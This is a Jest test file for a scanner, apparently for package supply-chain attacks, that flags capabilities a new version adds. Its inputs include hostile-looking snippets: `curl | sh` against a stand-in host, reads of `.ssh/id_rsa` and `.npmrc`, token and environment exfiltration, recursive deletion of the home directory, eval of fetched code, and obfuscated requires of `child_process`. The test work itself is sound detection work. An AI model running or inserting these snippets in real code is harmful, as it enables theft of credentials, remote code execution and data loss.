// Each ability, written out and in the ordinary disguises.
import { describe, expect, test } from '@jest/globals'
import { adding, compare, harmless, lines } from '../helpers/code.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')

describe('an ability that is new', () => {
  test.each<[string, string]>([
    [`require('https').get(x)`, 'network: https'],
    [`import('node:net')`, 'network: net'],
    [`fetch(x)`, 'network: fetch'],
    [`window.fetch(x)`, 'network: fetch'],
    [`new XMLHttpRequest()`, 'network: XMLHttpRequest'],
    [`new WebSocket(x)`, 'network: WebSocket'],
    [`navigator.sendBeacon(x, y)`, 'network: navigator/sendBeacon'],
    [`require('dns').lookup(x)`, 'network: dns'],
    [`require('child_process').exec(x)`, 'process: child_process'],
    [`const { execSync } = require('child_process')`, 'process: child_process'],
    [`Bun.spawn([x])`, 'process: Bun/spawn'],
    [`process.binding('spawn_sync')`, 'process: process/binding'],
    [`require('fs').writeFileSync(x, y)`, 'file-write: writeFileSync'],
    [`require('fs').promises.rm(x)`, 'file-write: rm'],
    [
      `require('fs').rmSync(require('os').homedir(), { recursive: true })`,
      'file-write: a removal of a home or a disk'
    ],
    [`read(home + '/.npmrc')`, 'secret: /.npmrc'],
    [`read('.ssh/id_rsa')`, 'secret: .ssh/'],
    [`send(process.env.NPM_TOKEN)`, 'secret: NPM_TOKEN'],
    [`const { AWS_SECRET_ACCESS_KEY: k } = process.env`, 'secret: AWS_SECRET_ACCESS_KEY'],
    [`send(process.env['GITHUB' + '_TOKEN'])`, 'disguised secret: GITHUB_TOKEN'],
    [`read('Default/Login Data')`, 'secret: Login Data'],
    [`send(JSON.stringify(process.env))`, 'environment: all variables'],
    [`for (const name in process.env) send(name)`, 'environment: all variables'],
    [`const e = process.env; send(JSON.stringify({ a: { ...e } }))`, 'environment: all variables'],
    [`require('os').networkInterfaces()`, 'host-identity: os/networkInterfaces'],
    [`eval(x)`, 'dynamic-code: eval of computed text'],
    [`const run = Function.call.bind(eval); run(null, x)`, 'dynamic-code: eval of computed text'],
    [`new Function(x)()`, 'dynamic-code: Function of computed text'],
    [`require('vm').runInThisContext(x)`, 'dynamic-code: vm of computed text'],
    [`eval(atob(x))`, 'dynamic-code: eval of decoded text'],
    [`eval(Buffer.from(x, 'hex').toString())`, 'dynamic-code: eval of decoded text'],
    [`fetch(x).then((r) => r.text()).then((t) => eval(t))`, 'dynamic-code: eval of fetched text'],
    [
      `require('https').get(x, (r) => { let s = ''; r.on('data', (c) => { s += c }); r.on('end', () => Function(s)()) })`,
      'dynamic-code: Function of fetched text'
    ],
    [`const s = new WebSocket(x); s.onmessage = (e) => eval(e.data)`, 'dynamic-code: eval of fetched text'],
    [
      `m._compile(require('crypto').createDecipheriv(a, b, c).update(x), '')`,
      'dynamic-code: Module._compile of decrypted text'
    ],
    [`new (require('worker_threads').Worker)(x, { eval: true })`, 'dynamic-code: Worker of computed text'],
    [`require('child_process').spawn(process.execPath, ['-e', x])`, 'dynamic-code: node -e'],
    [`x.constructor('return process')()`, 'dynamic-code: constructor of a written text'],
    [`require(x)`, 'unresolved: require of a computed name'],
    [`import(x)`, 'unresolved: import of a computed name'],
    [`globalThis[x](y)`, 'unresolved: a member of globalThis by a computed name'],
    [
      `function un(s) { let o = ''; for (const c of s) o += c; return o } require(un('x'))`,
      'unresolved: require of a made name'
    ],
    [`process.dlopen(m, x)`, 'native: process/dlopen'],
    [`require('./build/a.node')`, 'native: a native addon'],
    [`WebAssembly.instantiate(x)`, 'webassembly: WebAssembly'],
    [`window.ethereum.request(x)`, 'wallet: ethereum'],
    [`ask({ method: 'eth_sendTransaction' })`, 'wallet: eth_sendTransaction'],
    [`XMLHttpRequest.prototype.send = f`, 'hook: XMLHttpRequest/prototype/send'],
    [`window.fetch = f`, 'hook: fetch'],
    [`Object.defineProperty(window, 'fetch', { value: f })`, 'hook: fetch'],
    [`require('module')._load = f`, 'hook: @module/_load'],
    [`navigator.clipboard.writeText(x)`, 'clipboard: navigator/clipboard/writeText'],
    [`run('npm publish --access public')`, 'publish: npm publish'],
    [`write('.github/workflows/a.yml')`, 'publish: .github/workflows'],
    [`require('child_process').spawn('npm', ['publish'])`, 'publish: npm publish'],
    [`append(home + '/.bashrc')`, 'persistence: /.bashrc'],
    [`if (Date.now() > Date.UTC(2027, 0, 1)) f()`, 'gate: today compared with a fixed date'],
    [`const t = new Date('2027-01-01'); if (new Date() > t) f()`, 'gate: today compared with a fixed date'],
    [`while (true) { f() }`, 'endless-loop: a loop without a way out'],
    [`for (let i = 1; i < Infinity; i++) f()`, 'endless-loop: a loop without a way out'],
    [
      `const end = Number.POSITIVE_INFINITY; for (let i = 1; i < end; i++) f()`,
      'endless-loop: a loop without a way out'
    ],
    [`run('curl -s https://a.example.test | sh')`, 'process: a shell command that downloads'],
    [`run('powershell -enc AAAA')`, 'process: a shell command that hides']
  ])('is told: %s', (code, expected) => {
    expect(lines(adding(code))).toContain(expected)
  })

  test.each<[string, string]>([
    [`require('child' + '_process')`, 'disguised process: child_process'],
    [`require(['child', 'process'].join('_'))`, 'disguised process: child_process'],
    [`require('ssecorp_dlihc'.split('').reverse().join(''))`, 'disguised process: child_process'],
    [
      `require(Buffer.from('${base64('child_process')}', 'base64').toString())`,
      'disguised process: child_process'
    ],
    [`require(Buffer.from('${hex('child_process')}', 'hex') + '')`, 'disguised process: child_process'],
    [`require(atob('${base64('https')}'))`, 'disguised network: https'],
    [`require(String.fromCharCode(104, 116, 116, 112, 115))`, 'disguised network: https'],
    [`require('\\x68ttps')`, 'disguised network: https'],
    [
      `const d = (s) => Buffer.from(s, 'hex').toString(); require(d('${hex('net')}'))`,
      'disguised network: net'
    ],
    [
      `const a = ['ss', 'x', 'proce']; const b = 'child_'; require(b + a[2] + a[0])`,
      'disguised process: child_process'
    ],
    [`globalThis['fe' + 'tch'](x)`, 'disguised network: fetch'],
    [`const g = global; g['pro' + 'cess'].dlopen(x)`, 'disguised native: process/dlopen'],
    [`const r = require; r('child_process')`, 'process: child_process'],
    [`let r; r = require; r('child_process')`, 'process: child_process'],
    [`global['r'] = require; global['r']('child_process')`, 'process: child_process'],
    [`const o = {}; o.r = require; o.r('child_process')`, 'process: child_process'],
    [`(function (r) { r('child_process') })(require)`, 'process: child_process'],
    [
      `${Array.from({ length: 90 }, (_, at) => `const r${at + 1} = r${at}`).join(';')}; var r0 = require; r90('child_process')`,
      'process: child_process'
    ],
    [`module.require('child_process')`, 'process: child_process'],
    [`process.mainModule.require('child_process')`, 'process: child_process'],
    [`process.mainModule.constructor._load('child_process')`, 'process: child_process'],
    [`require('module').createRequire(__filename)('child_process')`, 'process: child_process'],
    [`process.getBuiltinModule('child_process')`, 'process: child_process'],
    [`require.call(null, 'child_process')`, 'process: child_process'],
    [`Function('return this')()['process'].mainModule.require('child_process')`, 'process: child_process'],
    [`[].filter.constructor('return this')().fetch(x)`, 'network: fetch'],
    [`Reflect.get(globalThis, 'fe' + 'tch')(x)`, 'disguised network: fetch'],
    [`(0, eval)(x)`, 'dynamic-code: eval of computed text'],
    [
      `eval(Buffer.from('${base64("require('child_process')")}', 'base64').toString())`,
      'disguised process: child_process'
    ],
    [`import('data:text/javascript;base64,${base64("import('node:net')")}')`, 'disguised network: net'],
    [`__importStar(require('fs')).writeFileSync(x)`, 'file-write: writeFileSync'],
    [`(0, fs_1.rmSync)(x); var fs_1 = require('fs')`, 'file-write: rmSync']
  ])('is told through a disguise: %s', (code, expected) => {
    expect(lines(adding(`;${code}`))).toContain(expected)
  })

  test.each<[string, string]>([
    [
      'an address in base64',
      `send(Buffer.from('${base64('https://a.example.test/x')}', 'base64').toString())`
    ],
    ['an address in pieces', `send('https://' + 'a.exam' + 'ple.test/x')`]
  ])('names %s as disguised', (_, code) => {
    expect(lines(adding(code))).toContain('disguised address host a.example.test')
  })
})

describe('what is no ability', () => {
  test.each([
    `const fetch = (x) => x; fetch(1)`,
    `cache.fetch(1)`,
    `if (typeof fetch === 'function') f()`,
    `const o = { fetch: 1, eval: 2 }`,
    `re.exec(x)`,
    `Function('return this')()`,
    `const has = Function.call.bind(Object.prototype.hasOwnProperty); has(o, x)`,
    `log('use child_process or https instead')`,
    `// require('child_process')`,
    `while (true) { if (f()) break }`,
    `const end = typeof most === 'number' ? most : Infinity; for (let i = 0; i < end; i++) f(i)`,
    `for (let i = 0; i < (most || Infinity); i++) f(i)`,
    `for (;;) { return_: for (;;) { break return_ } if (f()) throw g }`,
    `if (Date.now() > started + 1000) f()`,
    `log('your .npmrc file is missing')`,
    `require('./lib/' + name)`
  ])('is not told: %s', (code) => {
    expect(adding(code).capabilities).toEqual([])
  })
})

describe('an ability that base had', () => {
  test.each<[string, string, string]>([
    [
      'another request',
      `module.exports = () => fetch('/a')`,
      `module.exports = () => fetch('/a')\nmodule.exports.b = () => fetch('/b')`
    ],
    [
      'a request that moved',
      `const h = require('https')\nh.get(x)`,
      `const { get } = require('node:https')\nget(x)`
    ],
    [
      'a process that is started in another way',
      `require('child_process').exec(x)`,
      `import { spawn } from 'child_process'\nspawn(x)`
    ],
    ['another template', `new Function(a)`, `new Function(a)\nnew Function(b)`]
  ])('is quiet: %s', (_, before, after) => {
    expect(compare({ ...harmless, 'lib.js': before }, { 'lib.js': after }).capabilities).toEqual([])
  })

  test('does not hide one of its kind that says what it is after', () => {
    const found = compare(
      { ...harmless, 'lib.js': `read('~/.aws/credentials')` },
      { 'index.js': `read('~/.npmrc')` }
    ).capabilities
    expect(found).toMatchObject([{ kind: 'secret', detail: '/.npmrc', novelty: 'detail' }])
  })

  test('does not count where it stands in tests only', () => {
    const before = { ...harmless, 'test/a.js': `require('child_process').exec('node a')` }
    expect(lines(compare(before, { 'index.js': `require('child_process').exec(x)` }))).toContain(
      'process: child_process'
    )
  })

  test('does not count where only a comment speaks of it', () => {
    const before = { ...harmless, 'lib.js': `// fetch(x) is not used\n/* a */` }
    expect(lines(compare(before, { 'index.js': `fetch(x)` }))).toContain('network: fetch')
  })
})
